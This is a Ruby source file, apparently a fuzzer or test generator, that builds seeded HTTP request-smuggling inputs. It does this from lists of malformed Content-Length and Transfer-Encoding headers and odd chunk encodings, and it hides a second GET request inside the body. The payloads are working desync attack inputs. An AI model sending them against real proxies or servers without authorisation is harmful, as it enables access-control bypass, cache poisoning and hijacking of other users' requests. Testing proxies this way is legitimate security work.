# frozen_string_literal: true

# Attempts to get a request through a proxy that the proxy has not seen, drawn from a seed: a body has another length for each of
# two readers, and what one of them takes for the next request is in it.
class Smuggling
  LENGTHS = ["Content-Length: %d", "Content-Length: +%d", "Content-Length: %d, 5", "Content-Length: 0%d", "Content-Length: %d ",
             "Content-Length : %d", "Content-Length:\t%d", "Content_Length: %d", "content-length:%d", "X: y\nContent-Length: %d",
             "Content-Length: 0\r\nContent-Length: %d", "X: y\r\n Content-Length: %d", "Content-Length: 0x%x"].freeze
  CODINGS = ["Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked",
             "Transfer-Encoding: Chunked", "Transfer-Encoding: xchunked",
             "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
             "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "Transfer-Encoding: \x0bchunked", "Transfer_Encoding: chunked",
             "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked", "Transfer-Encoding\r\n : chunked",
             "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;x=y", "Transfer-Encoding:\r\n chunked",
             "Transfer-Encoding: gzip, chunked", " Transfer-Encoding: chunked", "Transfer-Encoding: chunked\0"].freeze
  OTHERS = ["Connection: close", "Connection: content-length", "Connection: transfer-encoding", "Expect: 100-continue",
            "Connection: upgrade\r\nUpgrade: websocket", "X_y: z", "Trailer: x"].freeze
  CHUNKS = ["0\r\n\r\n", "3\r\nabc\r\n0\r\n\r\n", "3;x\nabc\r\n0\r\n\r\n", "3\nabc\n0\n\n",
            "3\r\nabc\r\n0\r\nX: y\r\n\r\n", "+3\r\nabc\r\n0\r\n\r\n", "0x3\r\nabc\r\n0\r\n\r\n",
            "3\r\nabcd\r\n0\r\n\r\n", "100000000000000003\r\nabc\r\n0\r\n\r\n", "3 \r\nabc\r\n0\r\n\r\n",
            "3;\"\r\n\"\r\nabc\r\n0\r\n\r\n", "0\r\nContent-Length: 3\r\n\r\n"].freeze
  METHODS = %w[POST GET PUT HEAD].freeze
  VERSIONS = [*["HTTP/1.1"] * 5, "HTTP/1.0"].freeze
  private_constant :LENGTHS, :CODINGS, :OTHERS, :CHUNKS, :METHODS, :VERSIONS

  # @param seed [Integer]
  def initialize(seed)
    @seed = seed
    @random = Random.new(seed)
  end

  # @return [String] the bytes of a connection
  def bytes
    hidden = "GET /#{@seed}/hidden HTTP/1.1\r\nHost: h\r\n\r\n"
    body = [one(CHUNKS), "", "abc"].sample(random: @random) + hidden
    "#{one(METHODS)} /#{@seed} #{one(VERSIONS)}\r\n#{["Host: h", *fields(body)].join("\r\n")}\r\n\r\n#{body}".b
  end

  private

  def one(list) = list[@random.rand(list.size)]

  def fields(body)
    cut = [body.bytesize, body.index("GET"), 0, 3, @random.rand(body.bytesize)].sample(random: @random)
    lengths = Array.new([1, 1, 1, 0, 2].sample(random: @random)) { format(one(LENGTHS), cut) }
    codings = Array.new([1, 1, 1, 0, 2].sample(random: @random)) { one(CODINGS) }
    [*lengths, *codings, *(one(OTHERS) if @random.rand(3).zero?)].shuffle(random: @random)
  end
end
